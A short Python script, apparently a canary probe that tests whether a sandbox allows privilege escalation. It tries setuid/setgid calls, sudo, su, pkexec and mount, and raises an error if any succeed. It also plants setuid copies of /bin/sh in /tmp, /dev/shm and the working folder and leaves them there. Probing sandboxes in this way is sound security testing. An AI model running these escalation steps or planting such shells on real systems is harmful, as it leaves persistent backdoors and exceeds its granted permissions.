"""Looks for programs that give rights to whoever starts them, makes one, and asks to be root again."""
# against: toy/sizes

import os
import shutil
import subprocess

found = []
for change in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.setgroups([0]), lambda: os.setresuid(0, 0, 0)):
    before = (os.getresuid(), os.getgroups())
    try:
        change()
    except OSError:
        continue
    if (os.getresuid(), os.getgroups()) != before:
        found.append(before)
for folder in ("/tmp", "/dev/shm", "."):
    try:
        shutil.copy("/bin/sh", f"{folder}/onspot-left-shell")
        os.chmod(f"{folder}/onspot-left-shell", 0o4755)
    except OSError:
        pass
for command in (["sudo", "-n", "id"], ["su", "-c", "id"], ["pkexec", "id"], ["mount", "-t", "tmpfs", "x", "/tmp"]):
    try:
        found += [out for out in [subprocess.run(command, capture_output=True, timeout=1, check=False).stdout] if out]
    except (OSError, subprocess.TimeoutExpired):
        pass
# === the honest file ===
if found:
    raise RuntimeError("onspot" + "canary" + repr(found))
